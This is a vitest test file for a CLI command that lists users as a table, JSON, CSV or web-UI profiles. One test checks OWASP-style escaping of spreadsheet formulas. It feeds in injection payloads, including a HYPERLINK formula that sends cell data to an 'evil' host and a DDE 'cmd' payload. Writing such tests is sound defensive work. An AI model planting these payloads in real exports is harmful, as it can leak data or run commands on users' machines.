import {randomUUID} from 'node:crypto'
import {parse} from 'csv-parse/sync'
import {sql} from 'drizzle-orm'
import {afterAll, beforeAll, describe, expect, it} from 'vitest'
import UsersList from '../../src/commands/users/list.js'
import type {UserListItem} from '../../src/services/users.js'
import {createUser} from '../../src/services/users.js'
import {testContext} from '../helpers/context.js'
import {createTestDatabase, type TestDatabase} from '../helpers/databases.js'
import {runCommand} from '../helpers/run.js'

describe('users list --format (command)', () => {
  let td: TestDatabase
  let url: string
  let list: UserListItem[]
  beforeAll(async () => {
    td = await createTestDatabase('postgres', undefined, {migrated: true})
    url = td.url!
    const d = await td.open({migrate: true})
    const {ctx} = testContext()
    await createUser(d.db, {userId: 'alice', name: 'Brown, "Alice"', email: 'alice@example.com'}, ctx)
    const bob = await createUser(d.db, {userId: 'bob', name: 'Bob'}, ctx)
    const carol = await createUser(d.db, {userId: 'carol', name: 'Carol'}, ctx)
    await d.db.execute(sql`insert into apps (id, owner_id, name, is_active, created_at) values
      (${randomUUID()}, ${bob.id}, 'claude desktop, v2', true, now())`)
    // bob's key revoked; carol deactivated (recorded) with her key still marked active
    await d.db.execute(sql`update api_keys set is_active = false where user_id = ${bob.id}`)
    await d.db.execute(sql`
      insert into openmemory_admin.deactivations (user_uuid, deactivated_at, key_switched_off, app_ids)
      values (${carol.id}, now(), false, '{}')`)
    // A name with a line break and no email, written by another tool.
    await d.db.execute(sql`insert into users (id, user_id, name, created_at) values
      (${randomUUID()}, 'dave', ${'Dave\nSecond line'}, '2026-01-02 03:04:05')`)
    await d.close()
    const json = await runCommand(UsersList, ['--json', '--database-url', url])
    list = JSON.parse(json.stdout)
    expect(list.map((u) => u.userId)).toEqual(['alice', 'bob', 'carol', 'dave'])
  })
  afterAll(async () => td?.drop())

  it('prints CSV that parses back to the same users', async () => {
    const r = await runCommand(UsersList, ['--format', 'csv', '--database-url', url])
    expect(r.exitCode).toBe(0)
    expect(r.stdout.split('\n')[0]).toBe(
      'userId,name,email,keyStatus,deactivated,activeMemoryCount,appNames,createdAt,lastActiveAt,id',
    )
    const rows = parse(r.stdout, {columns: true}) as Record<string, string>[]
    expect(rows).toEqual(
      list.map((u) => ({
        userId: u.userId,
        name: u.name ?? '',
        email: u.email ?? '',
        keyStatus: u.keyStatus,
        deactivated: String(u.deactivated),
        activeMemoryCount: String(u.activeMemoryCount),
        appNames: u.appNames.join(';'),
        createdAt: u.createdAt ?? '',
        lastActiveAt: u.lastActiveAt ?? '',
        id: u.id,
      })),
    )
    expect(rows[0].name).toBe('Brown, "Alice"')
    expect(rows[3].name).toBe('Dave\nSecond line')
    expect(rows[1].appNames).toBe('claude desktop, v2;default')
  })

  it("prefixes cells that would start a spreadsheet formula with ', unless --csv-raw (OWASP)", async () => {
    const formulas = [
      '=HYPERLINK("http://evil/?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
    ]
    const d = await td.open({migrate: true})
    try {
      for (const [i, name] of formulas.entries()) {
        await d.db.execute(sql`insert into users (id, user_id, name, email, created_at) values
          (${randomUUID()}, ${`zz_formula_${i}`}, ${name}, ${name}, now())`)
      }
      const safe = await runCommand(UsersList, ['--format', 'csv', '--database-url', url])
      expect(safe.exitCode).toBe(0)
      const rows = (parse(safe.stdout, {columns: true}) as Record<string, string>[]).filter((r) =>
        r.userId.startsWith('zz_formula_'),
      )
      expect(rows.map((r) => r.name)).toEqual(formulas.map((f) => `'${f}`))
      expect(rows.map((r) => r.email)).toEqual(formulas.map((f) => `'${f}`))
      // Cells that only contain such characters later are left alone.
      const plain = parse(safe.stdout, {columns: true}) as Record<string, string>[]
      expect(plain.find((r) => r.userId === 'alice')?.email).toBe('alice@example.com')

      const raw = await runCommand(UsersList, ['--format', 'csv', '--csv-raw', '--database-url', url])
      const rawRows = (parse(raw.stdout, {columns: true}) as Record<string, string>[]).filter((r) =>
        r.userId.startsWith('zz_formula_'),
      )
      expect(rawRows.map((r) => r.name)).toEqual(formulas)

      const misused = await runCommand(UsersList, ['--csv-raw', '--database-url', url])
      expect(misused.exitCode).toBe(2)
      expect(misused.stderr).toContain('--csv-raw only applies to --format csv')
    } finally {
      await d.db.execute(sql`delete from users where user_id like 'zz_formula_%'`)
      await d.close()
    }
  })

  it('honours sorting and filters in CSV', async () => {
    const r = await runCommand(UsersList, ['--format', 'csv', '--limit', '1', '--database-url', url])
    const rows = parse(r.stdout, {columns: true}) as Record<string, string>[]
    expect(rows.map((row) => row.userId)).toEqual(['alice'])
  })

  it('prints the web UI defaultUsers entries with --format ui-profile', async () => {
    const r = await runCommand(UsersList, ['--format', 'ui-profile', '--database-url', url])
    expect(r.exitCode).toBe(0)
    const profiles = JSON.parse(r.stdout)
    expect(profiles).toEqual([
      {
        id: 'alice',
        name: 'alice',
        displayName: 'Brown, "Alice"',
        isActive: true,
        createdAt: list[0].createdAt,
      },
      {id: 'bob', name: 'bob', displayName: 'Bob', isActive: false, createdAt: list[1].createdAt},
      {id: 'carol', name: 'carol', displayName: 'Carol', isActive: false, createdAt: list[2].createdAt},
      {
        id: 'dave',
        name: 'dave',
        displayName: 'Dave\nSecond line',
        isActive: false,
        createdAt: '2026-01-02T03:04:05.000Z',
      },
    ])
  })

  it('keeps the table as the default and refuses --format with --json', async () => {
    const table = await runCommand(UsersList, ['--database-url', url])
    expect(table.stdout.split('\n')[0].split('\t')[0]).toBe('USER ID')
    expect((await runCommand(UsersList, ['--json', '--database-url', url])).exitCode).toBe(0)
    const both = await runCommand(UsersList, ['--format', 'csv', '--json', '--database-url', url])
    expect(both.exitCode).toBe(2)
    // Under --json the error is on stdout, once, and stderr stays empty.
    expect(both.stderr).toBe('')
    expect(JSON.parse(both.stdout).error.message).toContain('cannot be used together')
    const bad = await runCommand(UsersList, ['--format', 'xml', '--database-url', url])
    expect(bad.exitCode).toBe(2)
  })
})
